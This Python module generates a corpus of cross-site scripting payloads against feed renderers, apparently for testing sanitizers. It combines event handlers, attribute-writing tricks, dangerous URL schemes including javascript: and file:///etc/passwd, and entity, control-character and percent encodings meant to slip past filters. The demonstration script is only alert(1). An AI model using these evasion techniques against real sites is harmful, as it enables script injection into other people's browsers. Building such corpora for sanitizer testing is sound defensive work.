"""Attacks on whoever renders a feed, made of parts: what does harm, how it is written, what stands around.

The parts stand in text files, one a line, with Python's escapes: `elements` whose handlers run,
`links` of an address {url}, `attacks` that need no other part, and `contexts` {} that parsers read
differently from one another.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote


def _rows(name: str) -> tuple[str, ...]:
    text = (Path(__file__).parent / f"{name}.txt").read_text(encoding="ascii")
    return tuple(row.encode().decode("unicode_escape") for row in text.splitlines())


ELEMENTS = _rows("elements")
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
    "onwheel",
    "onbeforecopy",
    "ONERROR",
    "oNlOaD",
    "on\x00error",
    "onscrollend",
    "oncontentvisibilityautostatechange",
)
SCRIPT = "alert(1)"
# How an attribute is written: blanks, slashes, control characters, quotes of every kind, none.
WRITTEN = (
    " {name}={value}",
    "/{name}={value}",
    "\t{name}\n=\r'{value}'",
    '\x0c{name}="{value}"',
    " x='>'{name}={value}",
    " x=`{name}={value}",
    '"{name}="{value}',
    " {name}=&#97;lert&lpar;1)",
    " {name}\x00={value}",
    " ={name}={value}",
    " {name}=\"{value}\"{name}='{value}'",
    "\u00a0{name}={value}",
    " x={name}={value} {name} = {value}",
)
SCHEMES = (
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "livescript:x",
    "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(),
    "jar:http://x!/a",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://x/y",
    "view-source:x",
    "feed:javascript:alert(1)",
    "mhtml:http://x",
    "ms-its:x",
    "about:blank",
    "intent://x#Intent;end",
    "tel:+1",
    "filesystem:https://x",
    "ftp://x/y",
    "ws://x",
    "chrome://x",
    "resource://x",
    "x-javascript:alert(1)",
)
LINKS = _rows("links")
OTHERS = _rows("attacks")
AROUND = _rows("contexts")


def encodings(url: str) -> Iterator[str]:
    """Ways to write an address that some parser or other reads as the same."""
    head, _, rest = url.partition(":")
    yield url
    yield f"{head.upper()}:{rest}"
    yield "".join(f"&#{ord(c)};" for c in url)
    yield "".join(f"&#x{ord(c):04X};" for c in head) + "&colon;" + rest
    yield "".join(f"&#{ord(c):07}" for c in head) + f"&#58{rest}"
    yield f"{head[:3]}\t{head[3:]}:{rest}"
    yield f"{head[:3]}&Tab;{head[3:]}&NewLine;:{rest}"
    yield f"{head[:2]}\n{head[2:]}\r:{rest}"
    yield f"\x01\x1f {head}:{rest}"
    yield f"&#1;&#x0b;&nbsp;{head}:{rest}"
    yield f"{head}\x00:{rest}"
    yield f"{head}&#0;:{rest}"
    yield f"{head}\u200b:{rest}"
    yield f"\u00ad{head}\ufeff:{rest}"
    yield f"{head}\uff1a{rest}"
    yield f"&amp;#{ord(head[0])};{head[1:]}:{rest}"
    yield f"{quote(head[0])}{head[1:]}%3A{rest}"
    yield f"%{ord(head[0]):02x}{head[1:]}:{rest}"
    yield f"//{head}:{rest}"
    yield f"http://x/\n{url}"
    yield f"\\{url}"


def cores() -> Iterator[str]:
    """What does harm where it stands alone."""
    yield from OTHERS
    for number, (element, event) in enumerate(product(ELEMENTS, EVENTS)):
        yield "<" + element + WRITTEN[number % len(WRITTEN)].format(name=event, value=SCRIPT) + ">x"
    for number, (scheme, carrier) in enumerate(product(SCHEMES, LINKS)):
        written = list(encodings(scheme))
        yield carrier.format(url=written[number % len(written)])
        yield carrier.format(url=written[(number * 5 + 2) % len(written)])


def payloads(each: int = 3) -> list[str]:
    """Every attack alone and in `each` different surroundings, no two the same, in a fixed order."""
    made: dict[str, None] = {}
    for number, core in enumerate(cores()):
        made[core] = None
        for turn in range(each):
            made[AROUND[(number * 7 + turn * 37) % len(AROUND)].format(core)] = None
    return list(made)
